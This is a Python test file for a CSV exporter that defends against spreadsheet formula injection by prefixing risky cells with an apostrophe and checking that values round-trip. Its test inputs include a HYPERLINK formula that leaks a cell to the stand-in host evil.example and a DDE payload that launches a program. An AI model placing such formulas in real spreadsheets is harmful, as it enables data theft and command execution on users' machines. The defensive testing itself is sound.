"""CSV that a spreadsheet may open: no text is calculated, and every text can be had back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wirecopy.export.csv_rows import csv_lines, neutralise, restore


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+49 30 1234",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "'=1+1",
        "''=1+1",
    ],
)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe_that_can_be_taken_off(text: str) -> None:
    assert neutralise(text) == f"'{text}"
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "Ferry = late", "'tis late", "a\n=1+1", "1-0", "“−3°”", "'"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutralise(text) == restore(text) == text


@given(st.text(alphabet="'=+-@a\r\n\t,\"＝ "))
def test_every_text_comes_back_through_csv(text: str) -> None:
    lines = csv_lines([[1, text]]).decode()
    ((_, cell),) = csv.reader(io.StringIO(lines, newline=""))
    assert restore(cell) == text
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")


def test_values_are_written_so_that_every_reader_understands_them() -> None:
    berlin = datetime(2026, 8, 3, 3, 5, tzinfo=timezone(timedelta(hours=2)))
    row = [7, None, True, -1.5, datetime(2026, 8, 3, 1, 5, tzinfo=UTC), berlin, ["Ann", "=B"], 'a,"b"\nc']
    assert csv_lines([row]) == (
        b'7,,true,-1.5,2026-08-03T01:05:00Z,2026-08-03T01:05:00Z,"[""Ann"",""=B""]","a,""b""\nc"\r\n'
    )
